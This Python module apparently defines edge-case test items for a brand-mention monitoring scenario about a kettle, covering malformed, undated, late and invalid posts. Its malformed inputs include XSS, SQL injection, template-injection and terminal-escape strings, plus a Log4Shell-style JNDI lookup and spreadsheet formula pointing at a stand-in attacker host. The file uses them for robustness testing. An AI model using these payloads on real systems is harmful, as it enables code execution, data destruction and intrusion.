"""Unusual items of the scenario: malformed ones to accept, undated and late ones, and invalid ones to reject."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from infra.scenario.timeline import ONSET


@dataclass(frozen=True, slots=True)
class EdgeCase:
    """An unusual item, and whether it must be rejected.

    It is delivered in ``minute`` and was published ``age`` minutes before (``None``: the
    item has its own date or no date).
    """

    minute: int
    item: dict[str, Any]
    age: int | None = 0
    rejected: bool = False


def edge_cases() -> list[EdgeCase]:
    """All edge cases in the order of their minutes."""
    return sorted([*_malformed(), *_undated(), *_late(), *_rejected()], key=lambda case: case.minute)


def _malformed() -> list[EdgeCase]:
    texts = (
        (75, "brightkettle \x00\x00 morning\x07 tea"),
        (190, "brightkettle \ud83d half an emoji"),
        (310, "\u202ebrightkettle morning\u202c \u200f\u200e\ufeff"),
        (430, "🫖" * 4_000),
        (550, "brightkettle " + "lorem kettle ipsum " * 5_400),
        (670, '<script>alert("brightkettle")</script><img src=x onerror=alert(1)> nice kettle <b>bold</b>'),
        (ONSET + 9, "Brightkettle on fire!\r\nSTOP\nReply YES to win +10000000000 \x1b[31m"),
        (ONSET + 14, "'; DROP TABLE mentions; -- brightkettle melted, horrible"),
        (ONSET + 16, '=HYPERLINK("http://evil.example","brightkettle refund") {{7*7}} ${jndi:ldap://evil.example/a}'),
        (ONSET + 18, "b̷͓̞r̶̺̈i̸͇͝g̷̻̚h̴̰̆t̵̪̄kettle melted, h̷o̷r̷r̷i̷b̷l̷e̷"),
        (ONSET + 27, "KETTLE" * 2_000),
    )
    return [EdgeCase(minute, _item(f"junk-{n}", text)) for n, (minute, text) in enumerate(texts)]


def _undated() -> list[EdgeCase]:
    return [
        EdgeCase(130, _item("undated-0", "no clock on this forum, but a nice brightkettle"), age=None),
        EdgeCase(700, _item("undated-1", "brightkettle, date unknown", published_at=None), age=None),
        EdgeCase(ONSET + 11, _item("undated-2", "melted base, terrible smell, no timestamp here"), age=None),
        EdgeCase(
            ONSET + 20,
            _item(
                "tomorrow", "posting from the future: brightkettle still on fire", published_at="2099-01-01T00:00:00Z"
            ),
            age=None,
        ),
    ]


def _late() -> list[EdgeCase]:
    return [
        EdgeCase(720, _item("late-0", "found this brightkettle post in my drafts"), age=9 * 60),
        EdgeCase(ONSET + 25, _item("late-1", "brightkettle base was warm this morning already, worrying"), age=7 * 60),
        EdgeCase(ONSET + 70, _item("late-2", "sent from the train, no signal: burnt base, awful"), age=45),
        EdgeCase(ONSET + 120, _item("late-3", "slow forum, old news: is the brightkettle safe?"), age=80),
    ]


def _rejected() -> list[EdgeCase]:
    return [
        EdgeCase(
            240, _item("bad-date", "brightkettle", published_at="the day before yesterday"), age=None, rejected=True
        ),
        EdgeCase(360, _item("stranger", "about somebody else", brand="no-such-brand"), rejected=True),
        EdgeCase(480, _item("", "brightkettle without an id"), rejected=True),
        EdgeCase(ONSET + 13, _item("bad-reach", "brightkettle melted", reach="many"), rejected=True),
    ]


def _item(name: str, text: str, **others: object) -> dict[str, Any]:
    return {"channel": "webhook", "id": name, "text": text, "author": f"author of {name}", **others}
